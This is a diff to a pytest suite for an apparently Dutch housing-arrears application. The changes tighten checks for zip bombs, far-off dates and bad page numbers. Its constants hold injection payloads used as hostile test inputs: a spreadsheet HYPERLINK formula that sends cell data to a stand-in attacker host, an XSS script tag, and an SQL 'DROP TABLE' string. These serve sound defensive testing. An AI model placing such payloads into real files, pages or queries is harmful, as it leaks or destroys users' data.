@@ -17,13 +17,14 @@ from woonzeker.cases import services
 from woonzeker.cases.constants import State
 from woonzeker.cases.models import Case
 from woonzeker.ledgers.models import ImportStatus, LedgerImport
+from woonzeker.ledgers.parsing import REQUIRED_COLUMNS
 from woonzeker.monitoring.refresh import refresh_figures
 from woonzeker.organisations.models import OrganisationKind
 from woonzeker.tenancies.models import Tenancy
 
 pytestmark = pytest.mark.django_db
 
-HEADER = "peildatum;contractnummer;huurder_naam;straat;huisnummer;postcode;woonplaats;maandhuur;achterstand"
+HEADER = ";".join(REQUIRED_COLUMNS)  # the contract's columns, in its order
 FORMULA = '=HYPERLINK("http://aanvaller.example/?"&A1,"Klik hier")'
 SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
 SQL = "'; DROP TABLE cases_case; --"
@@ -98,10 +99,10 @@ def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(client, world, tmp_pa
     bomb = zip_bomb(50)
     assert len(bomb) < 200_000  # 50 MB of sheet in a small file
     client.force_login(world.corporation_worker)
-    response = upload(client, tmp_path, "bom.xlsx", bomb)
+    upload(client, tmp_path, "bom.xlsx", bomb)
     record = LedgerImport.objects.get()
     assert record.status == ImportStatus.REFUSED
-    assert "pakt uit tot 50 MB" in response.content.decode() or "pakt uit tot 50 MB" in str(record.report)
+    assert "pakt uit tot 50 MB" in record.report["errors"][0]["message"]
 
 
 # --- Formula injection ----------------------------------------------------------------------------------
@@ -232,16 +233,16 @@ def test_look_alike_letters_are_stored_as_typed_and_normalised(client, world, to
 
 
 @pytest.mark.parametrize("when", ["0001-01-01", "1900-01-01", "9999-12-31", "2999-01-01", "10000-01-01"])
-def test_dates_far_in_the_past_or_future_are_refused_or_harmless(client, world, today, when):
+def test_dates_far_in_the_past_or_future_are_refused(client, world, today, when):
     client.force_login(world.corporation_worker)
     response = client.post("/signalen/nieuw/", signal_form(world, today, established_on=when))
-    assert response.status_code in (302, 400)
-    if response.status_code == 400:
-        assert not Case.objects.exists()
+    assert response.status_code == 400
     api = client_for(world.corporation_worker)
     data = {**signal_form(world, today, established_on=when, contract_number="API-1"), "monthly_rent": "650.00"}
     response = api.post("/api/v1/cases/signals/", {**data, "arrears": "700.00"}, format="json")
-    assert response.status_code in (201, 400)
+    assert response.status_code == 400
+    assert response.json()["errors"][0]["field"] == "established_on"
+    assert not Case.objects.exists()
 
 
 def test_a_ledger_dated_far_away_is_refused_with_the_reason(client, world, tmp_path, settings):
@@ -321,10 +322,16 @@ def test_control_characters_in_an_api_path_are_a_problem_response(world, path):
     assert "x" not in response.cookies  # a line break in the path injects no header
 
 
-@pytest.mark.parametrize("page", ["", "0", "-1", "last", "１", "9" * 30])
+@pytest.mark.parametrize("page", ["", "0", "-1", "last", "１"])
 def test_a_page_number_that_is_not_one_is_a_field_error(world, page):
     response = client_for(world.corporation_worker).get("/api/v1/cases/", {"page": page})
-    assert response.status_code in (400, 404)
+    assert response.status_code == 400
+    assert response.json()["errors"][0]["field"] == "page"
+
+
+def test_a_page_past_the_end_is_not_found(world):
+    response = client_for(world.corporation_worker).get("/api/v1/cases/", {"page": "9" * 30})
+    assert response.status_code == 404
     assert response["Content-Type"] == "application/problem+json"
 
 
